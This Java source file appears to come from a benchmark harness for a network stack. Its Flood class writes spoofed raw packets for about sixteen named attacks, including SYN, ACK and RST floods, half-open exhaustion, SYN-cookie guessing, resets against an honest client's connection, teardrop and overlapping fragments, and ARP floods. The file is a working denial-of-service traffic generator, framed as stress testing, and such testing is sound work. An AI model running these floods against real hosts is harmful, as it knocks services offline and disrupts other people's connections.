package sluice.bench.attack;

import java.io.IOException;
import java.lang.foreign.MemorySegment;
import java.util.Map;
import java.util.TreeMap;
import sluice.wire.Bytes;

/** Packets that belong to no conversation, each made from nothing but chance. */
final class Flood implements Attack {
    /** Writes one packet; its length. */
    interface Kind {
        int write(Flood f, MemorySegment m);
    }

    /** A port that nobody listens on. */
    private static final int CLOSED_PORT = 4;
    private static final int FRAGMENT = 1400;
    /** Most half-open connections of {@code half-open}. */
    private static final int HALF_OPEN = 50_000;

    /** The floods by name. */
    static final Map<String, Kind> KINDS = new TreeMap<>(Map.ofEntries( //
            Map.entry("syn", (f, m) -> f.segment(m, Forge.SYN, Forge.SYN_OPTIONS, 0)),
            Map.entry("syn-tiny-mss", (f, m) -> f.segment(m, Forge.SYN, f.mss(f.forge.random.nextInt(64)), 0)),
            Map.entry("ack", (f, m) -> f.segment(m, Forge.ACK, Forge.NONE, 0)),
            Map.entry("rst", (f, m) -> f.segment(m, Forge.RST, Forge.NONE, 0)),
            Map.entry("fin", (f, m) -> f.segment(m, Forge.FIN | Forge.ACK, Forge.NONE, 0)),
            Map.entry("half-open", Flood::halfOpen), //
            Map.entry("cookie-guess", Flood::guess), //
            Map.entry("challenge", Flood::challenge), //
            Map.entry("udp", (f, m) -> f.forge.udp(m, f.forge.anySource(), CLOSED_PORT, 64)),
            Map.entry("icmp", (f, m) -> f.forge.ping(m, f.forge.anySource(), 56)),
            Map.entry("frag-never", (f, m) -> f.forge.fragment(m, f.forge.anySource(), f.id(), 0, true, FRAGMENT)),
            Map.entry("frag-tiny", (f, m) -> f.forge.fragment(m, f.sameFor(100), f.id, f.count % 100 * 16, true, 8)),
            Map.entry("frag-overlap", (f, m) -> f.forge.fragment(m, f.sameFor(2), f.id, f.count % 2 * 512, true, 1024)),
            Map.entry("teardrop", (f, m) -> f.forge.fragment(m, f.sameFor(2), f.id, f.count % 2 * 24, f.count % 2 == 0,
                    f.count % 2 == 0 ? 36 & ~7 : 4)),
            Map.entry("frag-atomic", Flood::atomic), //
            Map.entry("arp", (f, m) -> f.forge.arp(m))));

    private final Kind kind;
    private final RawSocket out;
    private final int protocol;
    private final int limit;
    private final Victim victim;
    final Forge forge;
    int count;
    int id;
    private int source;

    /** Whom a flood is for. {@code client} and {@code clientPort}: an honest connection that stands; 0 for none. */
    record Victim(int address, int port, int client, int clientPort) {}

    Flood(String name, RawSocket out, Victim victim, long seed) {
        Kind k = KINDS.get(name);
        if (k == null) {
            throw new IllegalArgumentException("no attack is called " + name);
        }
        this.kind = k;
        this.out = out;
        this.victim = victim;
        this.forge = new Forge(victim.address, seed);
        this.protocol = name.equals("arp") ? RawSocket.ARP
                : name.equals("frag-atomic") ? RawSocket.IPV6 : RawSocket.IPV4;
        this.limit = name.equals("half-open") ? HALF_OPEN : Integer.MAX_VALUE;
    }

    @Override
    public int step(int most) throws IOException {
        int n = Math.min(most, limit - count);
        for (int i = 0; i < n; i++) {
            out.add(kind.write(this, out.next()), protocol);
            count++;
        }
        if (n < RawSocket.BATCH) {
            out.flush();
        }
        return n;
    }

    private int segment(MemorySegment m, int flags, byte[] options, int data) {
        return forge.tcp(m, new Forge.Tcp(forge.anySource(), forge.anyPort(), victim.port, forge.random.nextInt(),
                flags == Forge.SYN ? 0 : forge.random.nextInt(), flags, 64_240), options, data);
    }

    private byte[] mss(int bytes) {
        return new byte[]{2, 4, (byte) (bytes >> 8), (byte) bytes};
    }

    /** Each from an address of its own, so that all could stand at once. */
    private int halfOpen(MemorySegment m) {
        return forge.tcp(m, new Forge.Tcp(0x0a800000 + count, 10_000, victim.port, count, 0, Forge.SYN, 64_240),
                Forge.SYN_OPTIONS, 0);
    }

    /** Acknowledgments with cookies of chance, and so many SYNs that cookies are believed. */
    private int guess(MemorySegment m) {
        return count % 8 == 0 ? segment(m, Forge.SYN, Forge.SYN_OPTIONS, 0) : segment(m, Forge.ACK, Forge.NONE, 0);
    }

    /** SYNs and resets that guess at the connection of an honest client, each of which may draw a challenge. */
    private int challenge(MemorySegment m) {
        int flags = count % 2 == 0 ? Forge.SYN : Forge.RST;
        return forge.tcp(m, new Forge.Tcp(victim.client, victim.clientPort, victim.port, forge.random.nextInt(), 0,
                flags, 64_240), Forge.NONE, 0);
    }

    private int id() {
        return forge.random.nextInt() & 0xffff;
    }

    /** The same source and identification for {@code n} packets. */
    private int sameFor(int n) {
        if (count % n == 0) {
            source = forge.anySource();
            id = id();
        }
        return source;
    }

    /** A datagram to fd99::2 in one fragment (RFC 6946), for a port that nobody has. */
    private static int atomic(Flood f, MemorySegment m) {
        Bytes.put32(m, 0, 0x60000000);
        Bytes.put16(m, 4, 8 + 16);
        Bytes.put16(m, 6, 44 << 8 | 64);
        Bytes.put64(m, 8, 0xfd99_0000_0000_0000L);
        Bytes.put64(m, 16, f.forge.random.nextLong());
        Bytes.put64(m, 24, 0xfd99_0000_0000_0000L);
        Bytes.put64(m, 32, f.victim.port == 0 ? 1 : 2);
        Bytes.put32(m, 40, 17 << 24);
        Bytes.put32(m, 44, f.forge.random.nextInt());
        Bytes.put64(m, 48, 0x0400_0004_0010_0001L);
        Bytes.put64(m, 56, f.forge.random.nextLong());
        return 64;
    }

    @Override
    public long offered() {
        return out.offered();
    }

    @Override
    public String remark() {
        return out.refused() > 0 ? "device refused " + out.refused() : "";
    }

    @Override
    public void close() throws IOException {
        out.close();
    }
}
